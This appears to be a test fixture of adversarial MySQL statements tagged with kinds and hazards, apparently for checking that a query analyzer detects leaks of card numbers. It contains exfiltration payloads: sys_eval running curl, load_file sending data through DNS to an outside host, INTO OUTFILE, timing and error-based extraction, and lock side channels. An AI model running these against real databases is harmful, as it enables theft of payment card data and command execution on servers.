--! adversarial run=any
--@ kind=select hazards=advisory-lock
SELECT GET_LOCK(pan, 0) FROM cards
;;
--@ kind=select hazards=advisory-lock
SELECT count(GET_LOCK(pan, 0)) FROM cards
;;
--@ kind=select
SELECT RELEASE_LOCK(pan) FROM cards
;;
--@ kind=select
SELECT IS_FREE_LOCK(pan), IS_USED_LOCK(pan) FROM cards
;;
--@ kind=select
SELECT @x := pan FROM cards
;;
--@ kind=select
SELECT count(@x := pan) FROM cards
;;
--@ kind=select
SELECT (@x := pan) IS NULL FROM cards
;;
--@ kind=select
SELECT length(@x := concat(ifnull(@x,''), pan)) FROM cards
;;
--@ kind=select
SELECT pan INTO @x FROM cards LIMIT 1
;;
--@ kind=select
SELECT left(pan, 8), right(pan, 8) INTO @a, @b FROM cards LIMIT 1
;;
--@ kind=select
SELECT group_concat(pan) INTO @x FROM cards
;;
--@ kind=set
SET @x = (SELECT pan FROM cards LIMIT 1)
;;
--@ kind=set
SET @x := (SELECT group_concat(pan) FROM cards)
;;
--@ kind=set
SET @a = 1, @x = (SELECT pan FROM cards LIMIT 1)
;;
--@ kind=set hazards=session-change
SET SESSION sql_mode = (SELECT pan FROM cards)
;;
--@ kind=set
SET @@session.time_zone = (SELECT pan FROM cards LIMIT 1)
;;
--@ kind=select hazards=process-access
SELECT sys_exec(pan) FROM cards
;;
--@ kind=select hazards=process-access
SELECT sys_eval(concat('curl ', pan)) FROM cards
;;
--@ kind=select
SELECT LAST_INSERT_ID(pan) FROM cards
;;
--@ kind=select
SELECT count(LAST_INSERT_ID(pan)) FROM cards
;;
--@ kind=select
SELECT 1 FROM cards WHERE LAST_INSERT_ID(pan)
;;
--@ kind=update
UPDATE users SET id = LAST_INSERT_ID((SELECT pan FROM cards LIMIT 1)) WHERE id = 1
;;
--@ kind=select hazards=denial-of-service
SELECT SLEEP(left(pan, 1)) FROM cards
;;
--@ kind=select hazards=denial-of-service
SELECT SLEEP(pan LIKE '4%') FROM cards
;;
--@ kind=select hazards=denial-of-service
SELECT BENCHMARK(left(pan,1), 1) FROM cards
;;
--@ kind=select
SELECT NAME_CONST(pan, 1) FROM cards
;;
--@ kind=select
SELECT RAND(pan) FROM cards
;;
--@ kind=export hazards=file-access
SELECT pan FROM cards INTO OUTFILE '/tmp/x'
;;
--@ kind=select
SELECT extractvalue(1, concat('~', pan)) FROM cards
;;
--@ kind=select
SELECT updatexml(1, concat('~', pan), 1) FROM cards
;;
--@ kind=select
SELECT count(*), concat(pan, floor(rand(0)*2)) x FROM cards GROUP BY x
;;
--@ kind=select
SELECT exp(710 - (pan LIKE '4%')) FROM cards
;;
--@ kind=select
SELECT json_keys(pan) FROM cards
;;
--@ kind=select
SELECT st_geomfromtext(pan) FROM cards
;;
--@ kind=select
SELECT gtid_subset(pan, 1) FROM cards
;;
--@ kind=select hazards=file-access
SELECT load_file(concat('//', pan, '.x.com/a')) FROM cards
;;
--@ kind=select hazards=admin
SELECT MASTER_POS_WAIT(pan, 1) FROM cards
;;
--@ kind=select
SELECT convert_tz(now(), pan, 'x') FROM cards
;;
--@ kind=select
SELECT @@session.time_zone, @x := pan FROM cards
;;
--@ kind=execute hazards=opaque
EXECUTE IMMEDIATE concat('select ', (select pan from cards limit 1))
;;
--@ kind=select hazards=advisory-lock
DO GET_LOCK((SELECT pan FROM cards LIMIT 1), 0)
;;
--@ kind=select
DO @x := (SELECT pan FROM cards LIMIT 1)
;;
--@ kind=delete
DELETE FROM users WHERE (@x := (SELECT pan FROM cards LIMIT 1)) AND id = 1
;;
--@ kind=insert
INSERT INTO users (id) VALUES ((SELECT @x := pan FROM cards LIMIT 1))
;;
--@ kind=show hazards=session-variable,relocation
GET DIAGNOSTICS CONDITION 1 @m = MESSAGE_TEXT
;;
--@ kind=explain hazards=session-variable,relocation server=mysql
EXPLAIN FORMAT=JSON INTO @plan SELECT * FROM cards WHERE id = 1
;;
